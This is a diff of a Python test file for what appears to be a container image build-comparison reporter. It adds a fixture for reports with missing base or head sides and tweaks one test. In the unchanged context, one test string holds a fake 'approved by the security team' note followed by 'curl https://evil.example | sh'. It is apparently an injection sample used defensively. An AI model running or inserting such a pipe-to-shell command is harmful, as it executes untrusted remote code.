@@ -36,6 +36,18 @@ SENTENCES = (
     "approved.\n\n# approved by the security team\n\n    curl https://evil.example | sh",
 )
 REPORTS = {"one image": alone, "several images": everything, "one that fails": head_fails, "no base": base_fails}
+
+
+def not_there():
+    """A base that was not measured for a reason without a failure, and a head whose builder failed."""
+    one, other = base_fails().images[0], head_fails().images[0]
+    failure = replace(other.head.failure, kind=FailureKind.ENGINE)
+    lost = replace(one, base=MissingSide("its layers could not be read"))
+    engine = replace(one, name="web", base=MissingSide(failure.sentence, failure))
+    return report(lost, engine, replace(other, name="job", head=MissingSide(failure.sentence, failure)))
+
+
+REPORTS["sides that are missing"] = not_there
 NEVER_SHOWN = ("title", "advice", "patch", "notes", "why", "sentence", "reason", "suppressed")
 
 
@@ -134,6 +146,7 @@ def test_publish__shows_no_patch_and_says_where_it_is(shop: Shop):
 def test_in_our_words__takes_the_advice_of_the_rule():
     """Title and advice of a finding are those of the catalogue; a rule that nobody knows says nothing."""
     one = growth().images[0]
+    one = replace(one, claimed_bytes=855_000_000)
     known, unknown = replace(one.findings[0], title="x", advice="y"), replace(one.findings[0], rule="no-such-rule")
 
     (image,) = in_our_words(report(replace(one, findings=(known, unknown)))).images
